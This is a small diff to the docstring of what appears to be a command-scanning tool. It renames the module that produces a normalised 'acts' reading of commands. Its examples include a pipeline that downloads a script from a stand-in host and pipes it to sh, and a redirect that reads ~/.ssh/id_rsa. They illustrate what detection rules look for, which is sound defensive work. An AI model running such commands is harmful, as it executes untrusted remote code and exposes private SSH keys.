@@ -1,6 +1,6 @@
 """What arguments would do: one plain line for each command, file, and statement in them.
 
-The reading that rules about commands are run over (core.text.decoders names it `acts`)::
+The reading that rules about commands are run over (core.scanning.readings names it `acts`)::
 
     $ curl -s https://x.example/a | $ sh      a pipeline, without quotes, wrappers and tricks
     < ~/.ssh/id_rsa                           a file that a command reads
